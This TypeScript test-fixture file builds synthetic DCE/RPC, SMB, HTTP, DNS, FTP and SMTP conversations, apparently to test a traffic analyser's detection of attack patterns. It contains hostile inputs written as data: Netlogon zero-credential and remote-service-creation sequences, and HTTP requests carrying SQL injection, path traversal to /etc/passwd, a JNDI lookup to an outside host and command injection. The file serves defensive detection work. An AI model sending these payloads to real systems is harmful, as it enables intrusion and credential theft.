import type { Transport } from '../protocol.ts';
import { hexBytes, textBytes } from './conversation-of.ts';
import { octets, utf16, zeros } from './samples/sample.ts';

export interface FollowedSample {
  readonly name: string;
  readonly protocol: string;
  readonly transport?: Transport;
  /** Packets, in the order in which they were sent. */
  readonly said: readonly (readonly [who: 'client' | 'server', bytes: Uint8Array])[];
  readonly told: Readonly<Record<string, string | number>>;
}

const u16 = (value: number): number[] => [value & 0xff, value >> 8];
const u32 = (value: number): number[] => [...u16(value & 0xffff), ...u16(value >>> 16)];

/** A message of DCE/RPC in one fragment. */
function rpc(type: number, body: Uint8Array): Uint8Array {
  return octets([5, 0, type, 3, 0x10, 0, 0, 0, ...u16(16 + body.length), 0, 0, 1, 0, 0, 0], [...body]);
}

function bind(uuid: string): Uint8Array {
  const head = [...u16(4280), ...u16(4280), 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 1, 0];
  return rpc(11, octets(head, [...hexBytes(uuid)], [1, 0, 0, 0], zeros(20)));
}

function request(operation: number, stub: Uint8Array = new Uint8Array(0)): Uint8Array {
  return rpc(0, octets([...u32(stub.length), 0, 0, ...u16(operation)], [...stub]));
}

const SVCCTL = '81bb7a364498f135ad3298f038001003';
const NETLOGON = '785634123412cdabef0001234567cffb';
const SPOOLSS = '785634123412cdabef000123456789ab';

function direct(body: Uint8Array): Uint8Array {
  return octets([0, 0, body.length >> 8, body.length & 0xff], [...body]);
}

/** Of tree 5 and of that session. */
function smb2(command: number, isAnswer: boolean, body: Uint8Array, status = 0): Uint8Array {
  const head = [
    '\xfeSMB',
    [64, 0, 0, 0, ...u32(status), ...u16(command), 1, 0, isAnswer ? 1 : 0, 0, 0, 0, ...zeros(4)],
  ];
  return direct(octets(...head, zeros(12), [5, 0, 0, 0], zeros(24), [...body]));
}

const SMB2_BODY = 64;

function treeConnect(path: string): Uint8Array {
  const name = utf16(path);
  return smb2(3, false, octets([9, 0, 0, 0, ...u16(SMB2_BODY + 8), ...u16(name.length)], name));
}

function create(path: string, disposition: number): Uint8Array {
  const name = utf16(path);
  const body = [
    57,
    0,
    ...zeros(34),
    ...u32(disposition),
    ...zeros(4),
    ...u16(SMB2_BODY + 56),
    ...u16(name.length),
    ...zeros(8),
  ];
  return smb2(5, false, octets(body, name));
}

const FILE = [1, 0, 0, 0, 2, 0, 0, 0, 3, 0, 0, 0, 4, 0, 0, 0];

function write(data: Uint8Array): Uint8Array {
  const body = [49, 0, ...u16(SMB2_BODY + 48), ...u32(data.length), ...zeros(8), ...FILE, ...zeros(16)];
  return smb2(9, false, octets(body, [...data]));
}

function transceive(data: Uint8Array): Uint8Array {
  const body = [57, 0, 0, 0, 0x17, 0xc0, 0x11, 0, ...FILE, ...u32(SMB2_BODY + 56), ...u32(data.length), ...zeros(24)];
  return smb2(11, false, octets(body, [...data]));
}

function smb1(command: number, isAnswer: boolean, words: readonly number[], bytes: Uint8Array, status = 0): Uint8Array {
  const head = [command, ...u32(status), isAnswer ? 0x80 : 0, 1, 0x40, ...zeros(12), 8, 0, ...zeros(4), 65, 0];
  return direct(octets('\xffSMB', head, [words.length / 2, ...words, ...u16(bytes.length)], [...bytes]));
}

const TRANSACTION_WORDS = (setup: number): number[] => [...zeros(26), 1, 0, ...u16(setup), 0, 0];
const NT_TRANSACT_WORDS = (data: number, operation: number): number[] => [
  ...zeros(7),
  ...u32(data),
  ...zeros(24),
  1,
  ...u16(operation),
  ...zeros(2),
];

const client = (bytes: Uint8Array) => ['client', bytes] as const;
const server = (bytes: Uint8Array) => ['server', bytes] as const;
const request1 = (text: string) => client(textBytes(text));

export const FOLLOWED_SAMPLES: readonly FollowedSample[] = [
  {
    name: 'a service made over DCE/RPC',
    protocol: 'dcerpc',
    said: [
      client(bind(SVCCTL)),
      client(request(15)),
      client(request(12)),
      client(request(12)),
      client(request(60, zeroStub())),
    ],
    told: {
      rpc_interfaces: 'svcctl',
      rpc_requests: 4,
      rpc_calls: 'svcctl.OpenSCManagerW,svcctl.CreateServiceW,svcctl.CreateWowService',
    },
  },
  {
    name: 'a call of an interface whose bind was not seen, and its refusal',
    protocol: 'dcerpc',
    said: [client(request(3)), server(rpc(3, octets([...zeros(8), 5, 0, 0, 0])))],
    told: { rpc_requests: 1, rpc_calls: 'unknown.3', rpc_faults: 1, rpc_denied: 1 },
  },
  {
    name: 'a secure channel asked for with a credential of zeros',
    protocol: 'dcerpc',
    said: [
      client(bind(NETLOGON)),
      client(request(26, octets('name', zeros(8), [0xff, 0xff, 0x2f, 0x21]))),
      client(request(26, octets('name', [1, 2, 3, 4, 5, 6, 7, 8], [0xff, 0xff, 0x2f, 0x21]))),
    ],
    told: {
      rpc_interfaces: 'netlogon',
      rpc_requests: 2,
      rpc_calls: 'netlogon.ServerAuthenticate3',
      zero_credentials: 1,
    },
  },
  {
    name: 'a program copied to a share, then a pipe, over SMB2',
    protocol: 'smb',
    said: [
      server(smb2(1, true, octets(zeros(8)), 0xc0000016)),
      server(smb2(1, true, octets(zeros(8)))),
      client(treeConnect('\\\\10.0.0.1\\ADMIN$')),
      server(smb2(3, true, octets([16, 0, 1], zeros(13)))),
      client(create('dir\\tool.exe', 5)),
      client(create('dir\\read.exe', 1)),
      client(treeConnect('\\\\10.0.0.1\\IPC$')),
      server(smb2(3, true, octets([16, 0, 2], zeros(13)))),
      client(create('Spoolss', 1)),
      client(write(bind(SPOOLSS))),
      client(transceive(request(65))),
      server(smb2(5, true, octets(zeros(8)), 0xc0000022)),
    ],
    told: {
      logins: 1,
      shares: 'ADMIN$,IPC$',
      programs_written: 'tool.exe',
      pipes: 'spoolss',
      rpc_interfaces: 'spoolss',
      rpc_requests: 1,
      rpc_calls: 'spoolss.RemoteFindFirstPrinterChangeNotificationEx',
      access_denied: 1,
    },
  },
  {
    name: 'a login refused over SMB2',
    protocol: 'smb',
    said: [server(smb2(1, true, octets(zeros(8)), 0xc000006d))],
    told: { login_failures: 1 },
  },
  {
    name: 'reserved transactions and a foreign secondary over SMB1',
    protocol: 'smb',
    said: [
      client(smb1(0x75, false, [0xff, 0, 0, 0, 0, 0, 1, 0], octets([0], '\\\\10.0.0.1\\IPC$\0', '?????\0'))),
      server(smb1(0x75, true, [0xff, 0, 0, 0, 1, 0], octets('IPC\0'))),
      client(smb1(0xa2, false, [0xff, ...zeros(4), 4, 0, ...zeros(28), 1, ...zeros(12)], octets('samr\0'))),
      client(smb1(0x32, false, TRANSACTION_WORDS(14), octets([0]))),
      client(smb1(0xa0, false, NT_TRANSACT_WORDS(66512, 5), octets([0]))),
      client(smb1(0x33, false, zeros(18), octets([0]))),
      client(smb1(0x25, false, TRANSACTION_WORDS(0x23), octets([0]))),
      server(smb1(0x25, true, [], octets([]), 0xc0000205)),
    ],
    told: {
      shares: 'IPC$',
      pipes: 'samr',
      reserved_transactions: 'trans2_session_setup,nt_rename',
      largest_transaction: 66512,
      foreign_secondaries: 1,
      peeks_refused: 1,
    },
  },
  {
    name: 'requests that inject, and what answered them',
    protocol: 'http',
    said: [
      request1('GET /list?id=1%27%20UNION/**/SELECT+user,password HTTP/1.1\r\nHost: a\r\n\r\n'),
      server(textBytes('HTTP/1.1 404 Not Found\r\n\r\n')),
      request1('GET /?f=..%252f..%252fetc/passwd HTTP/1.1\r\nHost: a\r\n\r\n'),
      server(textBytes('HTTP/1.1 401 Unauthorized\r\n\r\n')),
      request1('GET / HTTP/1.1\r\nUser-Agent: ${${::-j}ndi:ldap://10.0.0.1/a}\r\n\r\n'),
      request1('POST /login HTTP/1.1\r\nHost: a\r\n\r\nname=a;cat /etc/issue'),
    ],
    told: {
      requests: 4,
      injection: 'sql,path,lookup,command',
      injection_text: "/list?id=1' union select user,password",
      errors: 2,
      not_found: 1,
      unauthorized: 1,
    },
  },
  {
    name: 'requests as they should be',
    protocol: 'http',
    said: [request1("GET /search?q=o'brien+and+sons&sort=name;up HTTP/1.1\r\nUser-Agent: a (b; c)\r\n\r\n")],
    told: { requests: 1 },
  },
  {
    name: 'names asked for over DNS',
    protocol: 'dns',
    transport: 'udp',
    said: [
      client(dnsQuery('abcdefgh.weir.example', 1)),
      server(dnsQuery('abcdefgh.weir.example', 1, 0x80)),
      client(dnsQuery('a.example', 16)),
    ],
    told: { queries: 2, query_characters: 30, query_types: '1,16', longest_query: 21, longest_entropy: 3 },
  },
  {
    name: 'logins over FTP',
    protocol: 'ftp',
    said: [server(textBytes('230 Hello\r\n')), server(textBytes('530 No\r\n'))],
    told: { logins: 1, login_failures: 1 },
  },
  {
    name: 'logins over SMTP',
    protocol: 'smtp',
    said: [server(textBytes('235 Hello\r\n')), server(textBytes('535 No\r\n'))],
    told: { logins: 1, login_failures: 1 },
  },
];

function dnsQuery(name: string, type: number, flags = 0): Uint8Array {
  const labels = name.split('.').map((label) => String.fromCharCode(label.length) + label);
  return octets([0, 7, flags, 0, 0, 1, ...zeros(6)], labels.join(''), [0, 0, type, 0, 1]);
}

function zeroStub(): Uint8Array {
  return octets(zeros(8));
}
